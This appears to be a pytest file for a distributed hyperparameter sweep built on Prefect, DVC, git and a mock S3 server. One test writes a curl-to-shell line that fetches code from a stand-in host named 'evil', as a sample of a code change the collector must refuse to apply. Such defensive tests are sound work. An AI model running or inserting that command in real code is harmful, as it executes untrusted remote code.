"""A sweep fanned out as Prefect flow runs, for real: a Prefect server, a process work pool,
two workers, a git remote and an S3 DVC remote, all on this machine but only ever talking
through the server, git and S3, as machines of their own would.

The project is the tiny DAG of test_pipeline_e2e (reproduced once, committed, pushed to a
bare `origin` served as file:// with partial clones allowed, as a git host serves them, its
outputs and run cache pushed to moto's S3 server). `qlora-sweep-member` is deployed from
prefect.yaml, and the collector (`python -m flows.sweep_fanout`, what `qlora flow sweep`
runs) sweeps `finetune.learning_rate` over the committed value and one too small to move the
adapter. Each worker takes one member at a time (`--limit 1`), so the two members run on
the two workers, side by side, each in a clone of its own under its worker's temporary
folder. Then everything is read back from where it landed: flow runs, their workers and
stage tables from the server's API, experiment refs from `origin`, objects from the bucket,
the leaderboard, params.yaml and the registry from the collecting checkout.

The quick tests at the end check the collector's own decisions (names, the commit, what an
experiment may change, the table) without any server.
"""

from __future__ import annotations

import contextlib
import json
import re
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import psutil
import pytest
import yaml

from flows import dvc_workspace as ws
from flows import pipeline
from flows import sweep_fanout as fanout
from helpers.dag import dvc as dag_dvc
from helpers.dag import repro_in_copy
from helpers.repo import git
from helpers.s3 import PREFIX, Remote, dvc, free_port, moto_s3, run
from helpers.tiny import tiny_params
from qlora.core.io import StageError
from qlora.core.sources import settle_always_changed
from qlora.registry.store import Registry
from qlora.sweep.grid import Point

POOL = "qlora-process"
WORKERS = ("sweep-worker-1", "sweep-worker-2")
SWEEP_NAME = "dsweep"
# The committed learning rate (it moves the tiny model in 3 steps and the gate promotes the
# adapter, as in test_pipeline_e2e) and one that leaves the adapter where it started.
GOOD_LR, TINY_LR = 0.002, 1e-9
SPEC = f"finetune.learning_rate={GOOD_LR},{TINY_LR}"
MEMBER_NAMES = [f"{SWEEP_NAME}-1", f"{SWEEP_NAME}-2"]  # grid order: GOOD_LR, then TINY_LR
TIMINGS: dict[str, float] = {}
# Stages whose inputs a learning rate does not reach: no member may run them.
UPSTREAM = ("base", "extract", "dataset", "validate", "quantize", "eval_base_full")


@contextlib.contextmanager
def timed(what: str) -> Iterator[None]:
    start = time.perf_counter()
    try:
        yield
    finally:
        TIMINGS[what] = time.perf_counter() - start
        print(f"[timing] {what}: {TIMINGS[what]:.1f} s", flush=True)


# ---- processes: started here, stopped here ------------------------------------------------


def start(cmd: list[str], cwd: Path, env: dict[str, str], log: Path) -> subprocess.Popen:
    log.parent.mkdir(parents=True, exist_ok=True)
    with log.open("w") as out:
        return subprocess.Popen(
            cmd, cwd=cwd, env=env, stdout=out, stderr=subprocess.STDOUT, start_new_session=True
        )


def stop(proc: subprocess.Popen) -> None:
    """The process and everything it started (a worker's flow runs, the server's services),
    by their ids: SIGTERM, then SIGKILL for what is left after 20 s."""
    try:
        family = [psutil.Process(proc.pid), *psutil.Process(proc.pid).children(recursive=True)]
    except psutil.NoSuchProcess:
        family = []
    for member in family:
        with contextlib.suppress(psutil.Error):
            member.send_signal(signal.SIGTERM)
    _, alive = psutil.wait_procs(family, timeout=20)
    for member in alive:
        with contextlib.suppress(psutil.Error):
            member.kill()
    psutil.wait_procs(alive, timeout=10)
    with contextlib.suppress(subprocess.TimeoutExpired):
        proc.wait(timeout=5)


def tail(path: Path, chars: int = 4000) -> str:
    return path.read_text(errors="replace")[-chars:] if path.is_file() else f"({path}: no log)"


@dataclass
class Prefect:
    api: str
    env: dict[str, str]  # what a client, worker or the collector runs with
    logs: Path
    procs: list[subprocess.Popen] = field(default_factory=list)

    def post(self, path: str, body: dict) -> list[dict]:
        import httpx

        response = httpx.post(f"{self.api}{path}", json=body, timeout=30)
        response.raise_for_status()
        return response.json()

    def logs_tail(self) -> str:
        return "\n".join(f"--- {p.name}\n{tail(p)}" for p in sorted(self.logs.glob("*.log")))


def client_env(s3: Remote, root: Path, api: str) -> dict[str, str]:
    """The environment of every Prefect client here: the S3 keys (what the machine that runs
    a worker has), this test's server, and nothing of the developer's own Prefect setup."""
    env = {k: v for k, v in s3.env.items() if not k.startswith("PREFECT_")}
    env.pop(ws.ALLOW_RISKY_ENV, None)
    env.update(
        PREFECT_API_URL=api,
        PREFECT_HOME=str(root / "client-home"),
        PREFECT_SERVER_ANALYTICS_ENABLED="false",
        DO_NOT_TRACK="1",
        PREFECT_WORKER_QUERY_SECONDS="2",  # members are picked up within seconds
        # `dvc exp save` commits in the members' clones: an identity a CI machine may lack.
        GIT_AUTHOR_NAME="sweep",
        GIT_AUTHOR_EMAIL="sweep@example.com",
        GIT_COMMITTER_NAME="sweep",
        GIT_COMMITTER_EMAIL="sweep@example.com",
    )
    return env


def wait_for_health(prefect: Prefect, server: subprocess.Popen, timeout: float = 120) -> None:
    import httpx

    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        assert server.poll() is None, f"the server exited:\n{prefect.logs_tail()}"
        with contextlib.suppress(httpx.HTTPError):
            if httpx.get(f"{prefect.api}/health", timeout=5).status_code == 200:
                return
        time.sleep(0.5)
    raise AssertionError(f"no Prefect server after {timeout} s:\n{prefect.logs_tail()}")


@pytest.fixture(scope="module")
def s3(tmp_path_factory) -> Iterator[Remote]:
    with moto_s3(tmp_path_factory.mktemp("aws-home")) as remote:
        yield remote


@pytest.fixture(scope="module")
def prefect(tmp_path_factory, s3) -> Iterator[Prefect]:
    """A Prefect server on a free loopback port (its own PREFECT_HOME, no telemetry), the
    process work pool, and two workers each taking one flow run at a time. Every process
    is stopped on the way out, however the tests end."""
    root = tmp_path_factory.mktemp("prefect")
    port = free_port()
    prefect = Prefect(f"http://127.0.0.1:{port}/api", {}, root / "logs")
    prefect.env = client_env(s3, root, prefect.api)
    server_env = {
        **prefect.env,
        "PREFECT_HOME": str(root / "server-home"),
        "PREFECT_SERVER_UI_ENABLED": "false",
    }
    prefect_cli = [sys.executable, "-m", "prefect"]
    try:
        with timed("prefect server start"):
            server = start(
                [*prefect_cli, "server", "start", "--host", "127.0.0.1", "--port", str(port)],
                root,
                server_env,
                prefect.logs / "server.log",
            )
            prefect.procs.append(server)
            wait_for_health(prefect, server)
        done = run(
            root, prefect.env, *prefect_cli, "work-pool", "create", POOL, "--type", "process"
        )
        assert done.returncode == 0, done.stdout + done.stderr
        for name in WORKERS:
            # Each worker's temporary folders (where a member's clone goes) under its own.
            tmp = root / f"{name}-tmp"
            tmp.mkdir()
            worker = [*prefect_cli, "worker", "start", "--pool", POOL, "--name", name]
            prefect.procs.append(
                start(
                    [*worker, "--limit", "1"],
                    root,
                    {**prefect.env, "TMPDIR": str(tmp)},
                    prefect.logs / f"{name}.log",
                )
            )
        yield prefect
    finally:
        for proc in reversed(prefect.procs):
            stop(proc)


def promoting_params(model_dir: Path) -> dict:
    """The tiny DAG whose adapter the gate promotes at GOOD_LR (test_pipeline_e2e's)."""
    params = tiny_params(model_dir, source="data/raw/stdlib_functions.jsonl")
    params["corpus"]["max_source_chars"] = 400
    params["validate"]["max_dropped_fraction"] = 0.5
    params["finetune"]["learning_rate"] = GOOD_LR
    params["gate"].update(
        min_gain=0.0, significance=False, max_regression=10.0, max_regression_per_metric={}
    )
    return params


@dataclass(frozen=True)
class Project:
    checkout: Path  # the collecting checkout
    origin: Path  # the bare git remote
    commit: str
    runs_before: set[str]  # run-cache objects in the bucket before the sweep


def commit_all(work: Path, message: str) -> None:
    git(work, "add", "-A")
    git(work, "commit", "-qm", message)


def run_cache_keys(s3: Remote) -> set[str]:
    return {k for k in s3.keys() if k.startswith(f"{PREFIX}/runs/")}


@pytest.fixture(scope="module")
def project(tmp_path_factory, tiny_model_dir, s3) -> Project:
    """The tiny DAG reproduced and committed, its bucket as the committed DVC remote, the
    outputs and run cache pushed, the commit pushed to `origin`."""
    root = tmp_path_factory.mktemp("sweep-project")
    checkout, origin = root / "checkout", root / "origin.git"
    with timed("dvc repro of the tiny DAG"):
        done = repro_in_copy(checkout, promoting_params(tiny_model_dir))
    assert done.returncode == 0, done.stdout[-4000:] + done.stderr[-4000:]
    git(checkout, "branch", "-M", "main")
    commit_all(checkout, "tiny run")
    s3.add_to(checkout)
    commit_all(checkout, "DVC remote")
    with timed("dvc push --run-cache"):
        push = dvc(checkout, s3.env, "push", "--run-cache")
    assert push.returncode == 0, push.stdout + push.stderr
    git(root, "init", "-q", "--bare", "-b", "main", str(origin))
    # What a git host offers: the blob-less clones Prefect's git_clone step makes.
    git(origin, "config", "uploadpack.allowFilter", "true")
    git(origin, "config", "uploadpack.allowAnySHA1InWant", "true")
    git(checkout, "remote", "add", "origin", origin.as_uri())
    git(checkout, "push", "-q", "-u", "origin", "main")
    commit = git(checkout, "rev-parse", "HEAD").strip()
    return Project(checkout, origin, commit, run_cache_keys(s3))


@dataclass(frozen=True)
class Swept:
    done: subprocess.CompletedProcess
    board: dict
    members: dict[str, dict]  # experiment -> its flow run, as the server has it
    registry: Path


@pytest.fixture(scope="module")
def swept(project: Project, prefect: Prefect, tmp_path_factory) -> Swept:
    """`prefect deploy -n qlora-sweep-member` in the checkout, then the 2-point sweep."""
    registry = tmp_path_factory.mktemp("registry") / "registry"
    cli = [sys.executable, "-m", "prefect", "--no-prompt", "deploy", "-n", "qlora-sweep-member"]
    with timed("prefect deploy -n qlora-sweep-member"):
        deploy = run(project.checkout, prefect.env, *cli)
    assert deploy.returncode == 0, deploy.stdout[-3000:] + deploy.stderr[-3000:]
    sweep = [sys.executable, "-m", "flows.sweep_fanout", "-S", SPEC, "--name", SWEEP_NAME]
    options = ["--promote", "--registry", str(registry), "--timeout", "1200"]
    with timed("the distributed sweep (collector)"):
        done = run(project.checkout, prefect.env, *sweep, *options)
    print(done.stdout[-3000:], flush=True)
    assert done.returncode == 0, (
        done.stdout[-4000:] + done.stderr[-6000:] + "\n" + prefect.logs_tail()
    )
    runs = prefect.post("/flow_runs/filter", {"flow_runs": {"name": {"any_": MEMBER_NAMES}}})
    members = {r["name"]: r for r in runs}
    for name, r in members.items():
        seconds = r.get("total_run_time") or 0.0
        print(f"[timing] member {name} on {r['labels'].get(fanout.WORKER_LABEL)}: {seconds:.1f} s")
    board = json.loads((project.checkout / "reports/sweep/leaderboard.json").read_text())
    return Swept(done, board, members, registry)


def stage_table(prefect: Prefect, flow_run_id: str) -> dict[str, str]:
    """The member's `qlora-stages` artifact: what DVC did with each stage."""
    body = {
        "artifacts": {"flow_run_id": {"any_": [flow_run_id]}, "key": {"any_": ["qlora-stages"]}}
    }
    (artifact,) = prefect.post("/artifacts/filter", body)
    return {row["stage"]: row["result"] for row in json.loads(artifact["data"])}


def exp_ref(origin: Path, name: str) -> str:
    """The ref of experiment `name` in the bare remote."""
    refs = git(origin, "for-each-ref", "--format=%(refname)", "refs/exps/").split()
    (ref,) = [r for r in refs if r.rsplit("/", 1)[-1] == name]
    return ref


def exp_file(origin: Path, name: str, path: str) -> str:
    """A file as experiment `name` committed it, read from the bare remote."""
    return git(origin, "show", f"{exp_ref(origin, name)}:{path}")


# ---- the distributed run ----------------------------------------------------------------


@pytest.mark.slow
def test_each_member_ran_as_its_own_flow_run_on_its_own_worker(swept: Swept, prefect: Prefect):
    assert set(swept.members) == set(MEMBER_NAMES)
    workers = {r["labels"].get(fanout.WORKER_LABEL) for r in swept.members.values()}
    assert workers == set(WORKERS), workers
    for run_ in swept.members.values():
        assert run_["state_type"] == "COMPLETED", run_["state"]
        assert run_["parameters"]["experiment"] == run_["name"]
        assert run_["parameters"]["push_experiment"] is True
    # The collector reported each member with its worker, as the server has it.
    for name, run_ in swept.members.items():
        worker = run_["labels"][fanout.WORKER_LABEL]
        assert re.search(rf"{name}\s+Completed\s+{name} on {worker}", swept.done.stdout)
    # Side by side: each started before the other ended.
    (a, b) = swept.members.values()
    assert a["start_time"] < b["end_time"] and b["start_time"] < a["end_time"]


@pytest.mark.slow
def test_unchanged_stages_came_from_the_remote_not_rerun(swept: Swept, prefect: Prefect):
    same, tiny = (stage_table(prefect, swept.members[n]["id"]) for n in MEMBER_NAMES)
    # The committed learning rate: nothing to run but the always-run fingerprints.
    assert {s for s, r in same.items() if r == "ran"} == {"sources"}, same
    assert {r for s, r in same.items() if s != "sources"} <= {"pulled from remote", "up to date"}
    # The tiny one trains and evaluates its adapter; what precedes training is fetched.
    assert {"finetune", "eval_adapter_4bit", "evaluate", "gate"} <= {
        s for s, r in tiny.items() if r == "ran"
    }, tiny
    for table in (same, tiny):
        for stage in UPSTREAM:
            assert table[stage] in ("pulled from remote", "up to date"), (stage, table)
        assert table["base"] == "pulled from remote", table


@pytest.mark.slow
def test_each_experiment_is_in_origin_and_its_results_in_the_bucket(
    swept: Swept, project: Project, s3: Remote
):
    listed = git(project.checkout, "ls-remote", "origin", "refs/exps/*")
    for name in MEMBER_NAMES:
        ref = exp_ref(project.origin, name)
        assert ref in listed
        # Each hangs off the commit the sweep started from, with its own learning rate.
        assert git(project.origin, "rev-parse", f"{ref}^").strip() == project.commit
    lrs = [yaml.safe_load(exp_file(project.origin, n, "params.yaml")) for n in MEMBER_NAMES]
    # float(): DVC writes 1e-9 as `1e-09`, which PyYAML (YAML 1.1) reads as a string.
    assert [float(p["finetune"]["learning_rate"]) for p in lrs] == [GOOD_LR, TINY_LR]
    # The tiny member's new adapter is in the bucket, and so is the run cache of its stages.
    lock = yaml.safe_load(exp_file(project.origin, MEMBER_NAMES[1], "dvc.lock"))
    (adapter,) = [o for o in lock["stages"]["finetune"]["outs"] if o["path"].endswith("adapter")]
    md5 = adapter["md5"]
    assert f"{PREFIX}/files/md5/{md5[:2]}/{md5[2:]}" in s3.keys()
    assert run_cache_keys(s3) - project.runs_before, "no member pushed its run cache"


@pytest.mark.slow
def test_the_leaderboard_ranks_both_by_the_gate_then_the_metric(swept: Swept, project: Project):
    rows = {r["name"]: r for r in swept.board["rows"]}
    assert set(rows) == set(MEMBER_NAMES) and swept.board["failed"] == []
    # Ground truth: each experiment's own gate decision and metrics, from its commit.
    gates = {n: json.loads(exp_file(project.origin, n, "reports/gate.json")) for n in rows}
    for name, row in rows.items():
        metrics = json.loads(exp_file(project.origin, name, "reports/eval/metrics.json"))
        primary = gates[name]["primary"]
        measured = metrics["variants"]["adapter_4bit"]["metrics"][primary["task"]]
        value, stderr = measured[primary["metric"]]["value"], measured[primary["metric"]]["stderr"]
        assert row["status"] == "done"
        assert (row["decision"], row["passed"]) == (gates[name]["decision"], gates[name]["passed"])
        assert row["primary"]["value"] == pytest.approx(value)
        assert stderr > 0, "no interval to rank by"
        # The gate's 95% quantile, 1.96.
        assert row["primary"]["interval"] == pytest.approx(
            [value - 1.96 * stderr, value + 1.96 * stderr]
        )
    # Known from test_pipeline_e2e: the committed rate trains an adapter the gate promotes.
    assert gates[MEMBER_NAMES[0]]["decision"] == "promoted"

    def key(name: str) -> tuple:
        primary = gates[name]["primary"]
        sign = -1 if primary["higher_is_better"] else 1
        return (not gates[name]["passed"], sign * primary["adapter"])

    expected = sorted(MEMBER_NAMES, key=key)
    assert [r["name"] for r in swept.board["rows"]] == expected
    assert expected[0] == MEMBER_NAMES[0] == swept.board["best"]
    assert [r["rank"] for r in swept.board["rows"]] == [1, 2]


@pytest.mark.slow
def test_the_best_is_applied_and_promoted(swept: Swept, project: Project, s3: Remote):
    work = project.checkout
    assert f"applied {MEMBER_NAMES[0]} to the workspace" in swept.done.stdout
    params = yaml.safe_load((work / "params.yaml").read_text())
    assert params["finetune"]["learning_rate"] == GOOD_LR
    best = yaml.safe_load(exp_file(project.origin, MEMBER_NAMES[0], "dvc.lock"))
    lock = yaml.safe_load((work / "dvc.lock").read_text())
    assert lock["stages"]["finetune"] == best["stages"]["finetune"]
    # The workspace is what the applied dvc.lock records (`sources` always runs).
    status = dvc(work, s3.env, "status", "--json")
    assert status.returncode == 0, status.stderr
    assert settle_always_changed(json.loads(status.stdout), work) == {}, status.stdout

    registry = Registry(swept.registry)
    (version,) = registry.versions()
    assert registry.champion() == version
    assert f"promotion: PROMOTED {version}" in swept.done.stdout
    # The applied adapter's weights and config, byte for byte (its README is the card's).
    for name in ("adapter_model.safetensors", "adapter_config.json"):
        applied = (work / "data/prepared/adapter" / name).read_bytes()
        assert (registry.path(version) / name).read_bytes() == applied, name


@pytest.mark.slow
def test_the_sweep_publishes_its_leaderboard_as_artifacts(swept: Swept, prefect: Prefect):
    body = {"artifacts": {"key": {"any_": ["qlora-sweep", "qlora-sweep-report"]}}}
    found = {a["key"]: a for a in prefect.post("/artifacts/filter", body)}
    table = json.loads(found["qlora-sweep"]["data"])
    assert [row["experiment"] for row in table] == [r["name"] for r in swept.board["rows"]]
    for row in table:
        assert row["worker"] == swept.members[row["experiment"]]["labels"][fanout.WORKER_LABEL]
        assert row["gate"] in ("promoted", "rejected")
    assert f"# Sweep {SWEEP_NAME}" in found["qlora-sweep-report"]["data"]


@pytest.mark.slow
def test_another_machine_restores_a_members_training_from_the_run_cache(
    swept: Swept, project: Project, s3: Remote, tmp_path
):
    """A fresh clone (no cache, no outputs) asks for the tiny rate's adapter: the run cache
    the member pushed gives it back without training."""
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", project.origin.as_uri(), str(clone))
    params = yaml.safe_load((clone / "params.yaml").read_text())
    params["finetune"]["learning_rate"] = TINY_LR
    (clone / "params.yaml").write_text(yaml.safe_dump(params))
    with timed("dvc repro --pull finetune in a fresh clone"):
        done = dvc(clone, s3.env, "repro", "--pull", "finetune")
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    assert "Stage 'finetune' is cached - skipping run" in done.stdout, done.stdout[-3000:]
    assert "Running stage 'finetune'" not in done.stdout
    member = yaml.safe_load(exp_file(project.origin, MEMBER_NAMES[1], "dvc.lock"))
    here = yaml.safe_load((clone / "dvc.lock").read_text())
    assert here["stages"]["finetune"]["outs"] == member["stages"]["finetune"]["outs"]


# ---- the collector's own decisions (no server) --------------------------------------------


def test_a_member_name_must_be_a_ref_name_and_a_pushed_experiment_needs_one():
    assert pipeline.experiment_to_save([], "lr-1", True) == "lr-1"
    assert pipeline.experiment_to_save([], None, False) is None
    for bad in ("../../refs/heads/main", "-x", "a b", "x" * 62, ""):
        with pytest.raises(StageError, match="git ref name"):
            pipeline.experiment_to_save(["finetune.seed=1"], bad, False)
    with pytest.raises(StageError, match="saves no DVC experiment"):
        pipeline.experiment_to_save([], None, True)


def test_a_deployments_run_of_the_sweep_keeps_to_its_member_deployment():
    defaults = {"deployment": fanout.MEMBER_DEPLOYMENT}
    given = {"repo_dir": None, "registry_dir": None, "deployment": fanout.MEMBER_DEPLOYMENT}
    assert pipeline.refused_places(given, {}, defaults) == []
    other = {**given, "deployment": "qlora-pipeline/trusted"}
    (refused,) = pipeline.refused_places(other, {}, defaults)
    assert "deployment='qlora-pipeline/trusted'" in refused and fanout.MEMBER_DEPLOYMENT in refused
    # The deployment's own choice counts, and a run no deployment started may choose.
    assert pipeline.refused_places(other, {"deployment": "qlora-pipeline/trusted"}, defaults) == []
    assert pipeline.refused_places(other, None, defaults) == []


def test_the_member_deployment_must_clone():
    steps = [{fanout.GIT_CLONE_STEP: {"repository": "https://x/r.git", "commit_sha": "ab12"}}]
    assert fanout.cloned_commit("f/d", steps) == "ab12"
    assert fanout.cloned_commit("f/d", [{fanout.GIT_CLONE_STEP: {"repository": "u"}}]) is None
    shared = [{"prefect.deployments.steps.set_working_directory": {"directory": "/srv/qlora"}}]
    with pytest.raises(StageError, match="no git_clone pull step"):
        fanout.cloned_commit("qlora-pipeline/qlora-on-demand", shared)


def small_repo(root: Path) -> tuple[Path, str]:
    """A git + DVC-shaped repository: one stage with a cached and a metrics output."""
    root.mkdir()
    git(root, "init", "-q")
    (root / ".dvc").mkdir()
    (root / "dvc.yaml").write_text(
        yaml.safe_dump(
            {
                "stages": {
                    "train": {
                        "cmd": "python -m stages.train",
                        "outs": ["data/prepared/adapter"],
                        "metrics": [{"reports/gate.json": {"cache": False}}],
                    }
                }
            }
        )
    )
    for rel in ("params.yaml", "dvc.lock", "stages/train.py", "reports/gate.json"):
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text("v1\n")
    commit_all(root, "baseline")
    return root, git(root, "rev-parse", "HEAD").strip()


def test_an_experiment_that_changes_code_is_not_applied(tmp_path):
    repo, baseline = small_repo(tmp_path / "repo")
    git(repo, "checkout", "-q", "-b", "exp")
    for rel in ("params.yaml", "dvc.lock", "reports/gate.json", fanout.EXPERIMENT_ARGS):
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text("v2\n")
    (repo / "data/prepared/.gitignore").parent.mkdir(parents=True)
    (repo / "data/prepared/.gitignore").write_text("/adapter\n")
    commit_all(repo, "a pipeline's results")
    results = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "checkout", "-q", baseline)
    assert fanout.unexpected_changes(repo, baseline, results) == []
    git(repo, "checkout", "-q", "exp")

    (repo / "stages/train.py").write_text("import os; os.system('curl evil | sh')\n")
    (repo / "dvc.yaml").write_text("stages: {}\n")
    commit_all(repo, "and code")
    code = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "checkout", "-q", baseline)  # the collecting checkout stays at the baseline
    changed = sorted(fanout.unexpected_changes(repo, baseline, code))
    assert changed == ["dvc.yaml", "stages/train.py"]


def test_the_sweep_starts_only_from_the_commit_its_members_run(tmp_path):
    repo, head = small_repo(tmp_path / "repo")
    assert fanout.check_baseline(repo, "f/d", head) == head
    assert fanout.check_baseline(repo, "f/d", None) == head  # a branch: its tip, unknown here
    with pytest.raises(StageError, match=f"runs commit {'0' * 12}.*`prefect deploy -n d`"):
        fanout.check_baseline(repo, "f/d", "0" * 40)
    (repo / "params.yaml").write_text("edited, not committed\n")
    with pytest.raises(StageError, match="uncommitted changes \\(params.yaml\\)"):
        fanout.check_baseline(repo, "f/d", head)


def test_the_artifact_table_names_each_members_flow_run_worker_and_fate():
    done = {
        "name": "s-1",
        "rank": 1,
        "status": "done",
        "params": {"finetune.seed": "1"},
        "primary": {"value": 1.5, "interval": [1.4, 1.6], "relative_change": 0.1},
        "decision": "promoted",
    }
    members = [
        {"experiment": "s-1", "flow_run": "s-1", "worker": "w1", "state": "Completed"},
        {"experiment": "s-2", "flow_run": "s-2", "worker": "w2", "state": "Crashed"},
    ]
    failed = {
        "name": "s-2",
        "rank": 2,
        "status": "failed",
        "params": {"finetune.seed": "2"},
        "hint": fanout.member_hint(members[1]),
    }
    rows = fanout.table_rows({"rows": [done, failed], "members": members})
    assert [(r["experiment"], r["worker"], r["flow run"]) for r in rows] == [
        ("s-1", "w1", "s-1"),
        ("s-2", "w2", "s-2"),
    ]
    assert rows[0]["gate"] == "promoted"
    assert rows[0]["primary (95% CI)"].startswith("1.5")
    assert rows[1]["gate"] == "failed (flow run s-2 Crashed)"


def test_a_member_is_sent_its_point_under_its_name_with_the_remotes_on():
    sent = fanout.member_parameters(Point("s-2", ("finetune.seed=2", "finetune.lora.r=8")))
    assert sent == {
        "overrides": ["finetune.seed=2", "finetune.lora.r=8"],
        "experiment": "s-2",
        "pull": True,
        "push": True,
        "push_experiment": True,
    }


def test_a_member_that_failed_crashed_or_ran_late_is_no_completed_experiment():
    from uuid import uuid4

    from prefect.client.schemas.objects import FlowRun
    from prefect.states import Completed, Crashed, Failed, Running

    def member(name: str, state, worker: str | None = "w1") -> FlowRun:
        labels = {fanout.WORKER_LABEL: worker} if worker else {}
        return FlowRun(id=uuid4(), flow_id=uuid4(), name=name, state=state, labels=labels)

    ok = fanout.member_summary("s-1", member("s-1", Completed()))
    assert (ok["state"], ok["completed"], ok["worker"]) == ("Completed", True, "w1")
    failed = fanout.member_summary("s-2", member("s-2", Failed(message="[validate] FAILED")))
    assert (failed["state"], failed["completed"]) == ("Failed", False)
    assert failed["message"] == "[validate] FAILED"
    crashed = fanout.member_summary("s-3", member("s-3", Crashed(), worker=None))
    assert (crashed["state"], crashed["completed"], crashed["worker"]) == ("Crashed", False, None)
    late = fanout.member_summary("s-4", member("s-4", Running()), timed_out=True)
    assert (late["state"], late["completed"]) == ("timed out", False)


MAKE = """import json, pathlib, time, yaml
x = yaml.safe_load(open("params.yaml"))["x"]
pathlib.Path("out.txt").write_text(f"out {x}")
pathlib.Path("metrics.json").write_text(json.dumps({"x": x}))
plots = pathlib.Path("plots")
plots.mkdir(exist_ok=True)
(plots / "x.tsv").write_text(f"x\\n{x}\\n")
(plots / "seconds.tsv").write_text(f"seconds\\n{time.time()}\\n")  # another run, another
with open("runs.log", "a") as log:
    log.write("make\\n")
"""


def metrics_project(root: Path) -> Path:
    """A DVC project whose one stage has a cached output, a git-kept metric and a git-kept
    plots folder (as finetune has), reproduced at x=1 and committed with a local remote."""
    work = root / "a"
    work.mkdir(parents=True)
    git(work, "init", "-q")
    assert dag_dvc(work, "init", "-q").returncode == 0
    (work / "make.py").write_text(MAKE)
    (work / "params.yaml").write_text("x: 1\n")
    stage = {
        "cmd": f"{sys.executable} make.py",
        "deps": ["make.py"],
        "params": ["x"],
        "outs": ["out.txt"],
        "metrics": [{"metrics.json": {"cache": False}}],
        "plots": [{"plots": {"cache": False}}],
    }
    (work / "dvc.yaml").write_text(yaml.safe_dump({"stages": {"make": stage}}))
    (work / ".gitignore").write_text("runs.log\n")
    assert dag_dvc(work, "repro").returncode == 0
    assert dag_dvc(work, "remote", "add", "-d", "store", str(root / "remote")).returncode == 0
    commit_all(work, "x=1")
    return work


def restore_elsewhere(work: Path, where: Path) -> str:
    """A fresh clone asks for x=2, which `work` ran and pushed: `dvc repro --pull`'s log."""
    git(where.parent, "clone", "-q", str(work), str(where))
    (where / "params.yaml").write_text("x: 2\n")
    done = dag_dvc(where, "repro", "--pull")
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def test_the_run_cache_restores_a_stage_with_git_kept_metrics_elsewhere_once_its_copies_are_pushed(
    tmp_path,
):
    work = metrics_project(tmp_path)
    (work / "params.yaml").write_text("x: 2\n")
    assert dag_dvc(work, "repro").returncode == 0  # x=2 runs here, once
    assert dag_dvc(work, "push", "--run-cache").returncode == 0

    # What DVC 3.67 pushes is not enough: the entry names the metric's copy, not uploaded.
    log = restore_elsewhere(work, tmp_path / "b")
    assert "Running stage 'make'" in log and "is cached" not in log

    assert pipeline.push_run_cache_copies(work) == 2  # metrics.json and plots/ at x=2
    log = restore_elsewhere(work, tmp_path / "c")
    assert "Stage 'make' is cached - skipping run" in log, log
    assert not (tmp_path / "c/runs.log").exists(), "the stage ran"
    for rel in ("metrics.json", "out.txt", "plots/x.tsv", "plots/seconds.tsv"):
        assert (tmp_path / "c" / rel).read_text() == (work / rel).read_text(), rel
